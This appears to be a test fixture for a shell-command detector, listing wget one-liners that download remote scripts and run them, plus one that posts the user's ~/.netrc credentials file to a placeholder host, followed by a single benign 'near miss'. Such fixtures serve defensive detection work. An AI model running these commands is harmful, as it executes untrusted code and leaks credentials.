wget -qO- https://a.invalid/s.sh | sh
wget -q -O - https://a.invalid/s.sh | sh
wget https://a.invalid/Run.sh; sh Run.sh
wget -O /tmp/u.py https://a.invalid/u.py; python3 /tmp/u.py
wget -P tools https://a.invalid/go; sh tools/go
wget --post-file=$HOME/.netrc https://a.invalid/in
# near misses
wget -T 10 https://a.invalid/a.csv; sort a.csv
